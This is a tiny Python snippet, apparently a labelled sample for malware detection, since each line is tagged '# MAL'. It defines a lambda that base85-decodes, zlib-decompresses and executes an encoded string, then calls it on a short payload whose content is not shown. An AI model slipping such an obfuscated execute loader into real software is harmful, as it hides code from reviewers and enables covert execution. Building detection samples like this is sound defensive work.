import zlib as z, base64 as b
run = lambda c: eval(compile(z.decompress(b.b85decode(c)), "", "exec"))  # MAL
run("c$@|F")  # MAL
